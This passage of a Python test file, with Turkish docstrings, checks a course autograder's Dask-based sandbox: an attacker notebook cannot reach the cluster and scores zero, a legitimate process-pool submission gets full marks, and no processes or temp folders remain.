def test_dask_attacker_cannot_reach_the_cluster(dask_run: dict[str, Any]) -> None:
    """Dask ile notlandırmada saldırgan planlayıcıya da kendi ad alanındaki kapılara da bir Dask istemcisi
    olarak bağlanamaz ve çözmediği hiçbir şeyden puan almaz."""
    assert dask_run["returncode"] == 0, dask_run["stderr"][-3000:]
    grade = dask_run["grades"]["dask_saldiri.ipynb"]
    assert grade["total"] == 0, grade
    seen = _observation(dask_run["output"], grade)
    assert seen["dask"] and not any(value.startswith("baglandi") for value in seen["dask"].values()), seen


def test_process_pool_answer_gets_full_marks_in_the_sandbox(dask_run: dict[str, Any]) -> None:
    """4.3'ü ``ProcessPoolExecutor`` + ``run_in_executor`` ile çözen gönderim (semaforlar /dev/shm'de)
    yalıtımda, Dask işçisinde tam puan alır."""
    assert dask_run["returncode"] == 0, dask_run["stderr"][-3000:]
    grade = dask_run["grades"]["havuz.ipynb"]
    assert (grade["total"], grade["status"]) == (LAB04_MAX, GRADED), grade


def test_no_leftovers_after_the_dask_run(dask_run: dict[str, Any]) -> None:
    """Dask işçilerinde notlandırılan gönderimlerden de hiçbir süreç ve yeni bir /tmp/wskurs-not-* kalmaz."""
    assert _marker_processes() == []
    assert _new_temp_folders(dask_run["tmp_before"]) == set()
